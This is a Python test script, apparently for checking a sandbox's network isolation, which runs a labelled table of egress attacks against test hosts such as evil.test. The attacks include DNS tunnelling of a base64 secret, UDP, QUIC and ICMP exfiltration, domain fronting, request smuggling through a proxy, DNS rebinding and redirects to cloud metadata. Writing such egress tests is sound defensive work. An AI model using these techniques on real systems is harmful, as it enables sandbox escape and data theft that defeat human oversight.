# What is tried from inside, and in the same way outside of any sandbox: one object, of each attempt what
# it heard. `WHAT` is which of them.
import concurrent.futures, json, os, socket, ssl, struct, sys, urllib.request

SERVER, SERVER6, SECOND, SECOND6 = "25.1.0.1", "2fff:1::1", "25.2.0.99", "2fff:2::99"
PROXY = ("127.0.0.1", 61002)
PATIENCE = 30


def get(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def rest(stream):
    said = b""
    try:
        while piece := stream.recv(65536):
            said += piece
    except OSError as error:
        said += f" ({error})".encode()
    return said.decode("latin-1")


def tcp(address, port, words):
    with socket.create_connection((address, port), PATIENCE) as stream:
        stream.sendall(words)
        return rest(stream)


def within(stream, name, words):
    context = ssl._create_unverified_context()
    with context.wrap_socket(stream, server_hostname=name) as stream:
        stream.sendall(words)
        return rest(stream)


def tls(address, port, name, host=None):
    return within(socket.create_connection((address, port), PATIENCE), name, get(host or name))


def exactly(stream, length):
    said = b""
    while len(said) < length:
        piece = stream.recv(length - len(said))
        if not piece:
            raise OSError("it ended")
        said += piece
    return said


def tunnel(target):
    stream = socket.create_connection(PROXY, PATIENCE)
    stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += exactly(stream, 1)
    if b" 200 " not in head:
        raise OSError(head.decode() + rest(stream))
    return stream


def socks(name, port):
    stream = socket.create_connection(PROXY, PATIENCE)
    stream.sendall(b"\5\1\0\5\1\0\3" + bytes([len(name)]) + name.encode() + struct.pack("!H", port))
    reply = exactly(stream, 4)[2:]
    if reply != b"\5\0":
        raise OSError(f"reply {reply[1]}")
    exactly(stream, 8)
    return stream


def plain(stream, words):
    with stream:
        stream.sendall(words)
        return rest(stream)


def udp(address, port, words):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.sendto(words, (address, port))
        return sock.recv(2048).decode("latin-1")


def ping(address, kind=socket.SOCK_DGRAM):
    is_v6 = ":" in address
    family, protocol = (socket.AF_INET6, 58) if is_v6 else (socket.AF_INET, 1)
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(PATIENCE)
        body = b"\0\1\0\1REACHED!"
        words = bytes([128 if is_v6 else 8, 0])
        total = sum(struct.unpack(f"!{len(body) // 2}H", body)) + (words[0] << 8)
        total = (total >> 16) + (total & 0xFFFF)
        sock.sendto(words + struct.pack("!H", ~total & 0xFFFF) + body, (address, 0))
        return sock.recv(2048).decode("latin-1")


def question(name, kind=16):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def resolver():
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            return line.split()[1]


def ask(server, name, over=udp):
    words = question(name)
    if over is udp:
        return udp(server, 53, words)
    with socket.create_connection((server, 53), PATIENCE) as stream:
        stream.sendall(struct.pack("!H", len(words)) + words)
        return exactly(stream, struct.unpack("!H", exactly(stream, 2))[0]).decode("latin-1")


def fetched(address):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(address, timeout=PATIENCE) as said:
        return said.read().decode()


def twice(name, through):
    """What is heard the second time, when the name leads elsewhere."""
    first = through(name)
    assert "REACHED" in first, f"nothing the first time: {first}"
    return through(name)


SECRET = "c2VjcmV0LXdvcmQ.evil.test"
QUIC = b"\xc3\0\0\0\1\x08secretid\0\0\x44\x9e" + bytes(1180)
TWO = get("ok.test", "/to-metadata").replace(b"Connection: close\r\n", b"") + get("evil.test")

ATTACKS = {
    "raw address": lambda: tcp(SERVER, 80, get("ok.test")),
    "raw address, TLS": lambda: tls(SERVER, 443, "ok.test"),
    "raw address, another port": lambda: tcp(SERVER, 8080, get("ok.test")),
    "raw address, mail": lambda: tcp(SERVER, 25, b"EHLO x\r\n"),
    "IPv6": lambda: tcp(SERVER6, 80, get("ok.test")),
    "IPv6, TLS": lambda: tls(SERVER6, 443, "ok.test"),
    "IPv4 as IPv6": lambda: tcp("::ffff:" + SERVER, 80, get("ok.test")),
    "UDP": lambda: udp(SERVER, 123, b"secret"),
    "UDP over IPv6": lambda: udp(SERVER6, 123, b"secret"),
    "UDP to a name": lambda: udp(socket.gethostbyname("ok.test"), 123, b"secret"),
    "QUIC": lambda: udp(SERVER, 443, QUIC),
    "QUIC over IPv6": lambda: udp(SERVER6, 443, QUIC),
    "QUIC to a name": lambda: udp(socket.gethostbyname("ok.test"), 443, QUIC),
    "ICMP": lambda: ping(SERVER),
    "ICMP over IPv6": lambda: ping(SERVER6),
    "ICMP to a name": lambda: ping(socket.gethostbyname("ok.test")),
    "a tunnel in questions for names": lambda: ask(resolver(), SECRET),
    "the same over TCP": lambda: ask(resolver(), SECRET, tcp),
    "the same below a name that may be reached": lambda: ask(resolver(), "c2VjcmV0.ok.test"),
    "the same below a wildcard": lambda: ask(resolver(), "c2VjcmV0.rebind.test"),
    "another resolver": lambda: ask(SECOND, SECRET),
    "another resolver over TCP": lambda: ask(SECOND, SECRET, tcp),
    "another resolver over IPv6": lambda: ask(SECOND6, SECRET),
    "another resolver over TLS": lambda: tls(SECOND, 853, "evil.test"),
    "another resolver over HTTPS": lambda: tls("evil.test", 443, "evil.test"),
    "another name": lambda: tcp("evil.test", 80, get("evil.test")),
    "fronting by the name in TLS": lambda: tls("ok.test", 443, "front.test"),
    "fronting by the name in TLS, CONNECT": lambda: within(tunnel("ok.test:443"), "front.test", get("ok.test")),
    "fronting by the name in TLS, SOCKS": lambda: within(socks("ok.test", 443), "front.test", get("ok.test")),
    "fronting by Host": lambda: tcp("ok.test", 80, get("front.test")),
    "fronting by Host, CONNECT": lambda: plain(tunnel("ok.test:80"), get("front.test")),
    "fronting by Host, SOCKS": lambda: plain(socks("ok.test", 80), get("front.test")),
    "fronting by a target": lambda: tcp("ok.test", 80, get("ok.test", "http://front.test/")),
    "fronting by Host, proxy": lambda: tcp(*PROXY, get("front.test", "http://ok.test/")),
    "a second request": lambda: tcp("ok.test", 80, TWO),
    "a second request, proxy": lambda: tcp(*PROXY, TWO.replace(b"GET /", b"GET http://ok.test/", 1)),
    "a request behind CONNECT": lambda: tcp(*PROXY, b"CONNECT ok.test:80 HTTP/1.1\r\n\r\n" + get("evil.test")),
    "a request as the body of CONNECT":
        lambda: tcp(*PROXY, b"CONNECT ok.test:80 HTTP/1.1\r\nContent-Length: 9\r\n\r\n" + get("evil.test")),
    "two requests in a tunnel": lambda: plain(tunnel("ok.test:80"), TWO),
    "a tunnel elsewhere": lambda: within(tunnel("evil.test:443"), "evil.test", get("evil.test")),
    "SOCKS elsewhere": lambda: plain(socks("evil.test", 80), get("evil.test")),
    "a redirect to metadata": lambda: fetched("http://ok.test/to-metadata"),
    "a redirect to a private address": lambda: fetched("http://ok.test/to-private"),
    "a redirect to the host": lambda: fetched("http://ok.test/to-loopback"),
    "a name that changes its address":
        lambda: twice(f"a{os.getpid()}.rebind.test", lambda name: tcp(name, 80, get(name))),
    "the same through the proxy":
        lambda: twice(f"b{os.getpid()}.rebind.test", lambda name: tcp(*PROXY, get(name, f"http://{name}/"))),
    "a name that is another's, which is private": lambda: tcp("hidden.test", 80, get("hidden.test")),
    "a private name of the host's list": lambda: tcp("inner.test", 80, get("inner.test")),
    "the host's loopback": lambda: tcp("127.0.0.1", 8077, get("localhost")),
    "the host's own address": lambda: tcp("25.0.0.2", 8077, get("localhost")),
}

NEIGHBOURS = {
    "HTTP": lambda: tcp("ok.test", 80, get("ok.test")),
    "TLS": lambda: tls("ok.test", 443, "ok.test"),
    "another port": lambda: tcp("ok.test", 8080, get("ok.test:8080")),
    "a server that speaks first": lambda: tcp("ok.test", 25, b"EHLO x\r\n"),
    "a name with both sorts of address": lambda: tls("both.test", 443, "both.test"),
    "a name with IPv6 alone": lambda: tls("six.test", 443, "six.test"),
    "an alias": lambda: tls("alias.test", 443, "alias.test"),
    "a name that is answered late": lambda: tcp("slow.test", 80, get("slow.test")),
    "a name with an answer that is too long": lambda: tcp("long.test", 80, get("long.test")),
    "a name of the host's list": lambda: tcp("listed.test", 80, get("listed.test")),
    "a name with one address that is public": lambda: tcp("mixed.test", 80, get("mixed.test")),
    "the proxy": lambda: tcp(*PROXY, get("ok.test", "http://ok.test/")),
    "CONNECT": lambda: within(tunnel("ok.test:443"), "ok.test", get("ok.test")),
    "SOCKS": lambda: within(socks("ok.test", 443), "ok.test", get("ok.test")),
}

NOWHERE = {
    "a name that nobody answers for": lambda: tcp("silent.test", 80, get("silent.test")),
    "a name that is its own alias": lambda: tcp("ring.test", 80, get("ring.test")),
    "a name that is not there": lambda: tcp("nobody.test", 80, get("nobody.test")),
}


def by_name(leads):
    return {lead: lambda at=at: tcp(f"a{at}.leads.test", 80, get(f"a{at}.leads.test")) for at, lead in enumerate(leads)}


def by_address(leads):
    return {lead: lambda lead=lead: tcp(lead, 80, get("ok.test")) for lead in leads}


def chosen(what, words):
    tables = {"attacks": ATTACKS, "neighbours": NEIGHBOURS, "nowhere": NOWHERE}
    if what in tables:
        return tables[what]
    return {"names": by_name, "addresses": by_address}[what](words)


def tried(attempt):
    try:
        return attempt()
    except Exception as error:
        return f"{type(error).__name__}: {error}"


if __name__ == "__main__":
    attempts = chosen(sys.argv[1], sys.argv[2:])
    with concurrent.futures.ThreadPoolExecutor(len(attempts)) as pool:
        print(json.dumps(dict(zip(attempts, pool.map(tried, attempts.values())))))
